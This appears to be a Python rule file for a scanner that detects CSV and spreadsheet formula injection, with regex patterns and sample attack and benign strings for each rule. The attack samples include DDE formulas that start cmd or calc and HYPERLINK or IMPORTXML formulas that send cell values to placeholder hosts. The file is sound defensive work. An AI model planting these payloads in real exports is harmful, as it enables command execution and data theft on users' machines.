"""Spreadsheet formulas in values that end up in an export: a sign of what may come, certain only where a program is started."""

from __future__ import annotations

from .rule import Rule

_FAMILY = "csv"

RULES = (
    Rule(
        "LG-CSV-001", _FAMILY, "spreadsheet formula that starts a program (DDE)", cwe=1236, capec=248, needles=("|", "dde(", "dde (", "exec(", "call(", "register(", "register.id("),
        pattern=r"(?:^|[,;\t\n\"'])[\s\"']{0,3}[=+@-](?:[^\n;]{0,80}?[=+@*&(/-])?\s{0,20}(?:cmd|wmic|powershell|msexcel|mshta|regsvr32|rundll32|certutil|excel|calc|notepad|bitsadmin|wscript|explorer)(?:\.exe|\w{0,40})\s*\|\s*(?:['\"_]|/[a-z])|^\s*=\s*DDE\s*\(|^\s*DDE\s*\(\s*\"|^[\s\"']{0,3}(?!@register\()[=+@-]\s*(?:EXEC|CALL|REGISTER(?:\.ID)?)\s*\(\s*\"",
        attacks=("=cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", 'DDE ("cmd";"/c ping x";"A1")', 'x,"=cmd|\'/c ping x\'!A1"'),
        benign=("a = cmd | grep x", ("body", "- run cmd | more to page the output")),
    ),
    Rule(
        "LG-CSV-002", _FAMILY, "spreadsheet formula that fetches or links", cwe=1236, capec=248, severity="medium", confidence="medium", needles=("(",),
        pattern=r"^[\s\"']{0,3}[=+@-]\s*\w{0,20}\(?[^\n]{0,40}?\b(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|HTML|FEED|DATA|RANGE)|IMAGE|FILTERXML|CALL|REGISTER\.ID|EXEC|DDE|RTD)\s*\(",
        attacks=('=HYPERLINK("http://evil.example/"&A1,"x")', '=IMPORTXML(CONCAT("http://e.example/",A1),"//a")', '+WEBSERVICE("http://e.example")'),
        benign=("=total", "- image (large)"),
    ),
    Rule(
        "LG-CSV-003", _FAMILY, "spreadsheet formula that sends other cells to a URL", cwe=1236, capec=248, needles=("http", "ftp:"),
        pattern=r"^[\s\"']{0,3}[=+@-]\s*\w{0,20}\(?[^\n]{0,40}?\b(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|HTML|FEED|DATA)|IMAGE|FILTERXML)\s*\(\s*(?:CONCAT(?:ENATE)?\s*\(\s*)?\"{1,2}(?:https?|ftp):[^\"\n]{0,300}\"{1,2}\s*[&,]\s*(?:[A-Z]{1,3}\$?\d{1,7}\b|\w{1,20}\()",
        attacks=('=HYPERLINK("https://collect.example/?row="&B2,"Details")', '=IMPORTXML(CONCAT("http://e.example/?v=",CONCATENATE(A2:E2)),"//a")'),
        benign=('=HYPERLINK("https://shop.example/orders","Orders")', '=IMAGE("https://shop.example/logo.png",4,50,50)'),
    ),
    Rule(
        "LG-CSV-004", _FAMILY, "spreadsheet formula that reads from a URL, where nobody writes formulas", cwe=1236, capec=248,
        confidence=dict.fromkeys(("query", "path", "header", "cookie", "file"), "high"), needles=("(",),
        pattern=r"^[\s\"']{0,3}[=+@-]\s*(?:FILTERXML\s*\(\s*)?(?:WEBSERVICE|IMPORT(?:XML|HTML|FEED|DATA|RANGE))\s*\(\s*(?:CONCAT(?:ENATE)?\s*\(\s*)?\"{1,2}(?:https?|ftp):",
        attacks=('=WEBSERVICE("http://e.example/q")', '=FILTERXML(WEBSERVICE("http://e.example"),"//a")', '=IMPORTDATA("https://e.example/x.csv")'),
        benign=(("body", '=IMPORTDATA("https://shop.example/prices.csv")'), '=HYPERLINK("https://shop.example/orders","Orders")'),
    ),
)  # fmt: skip
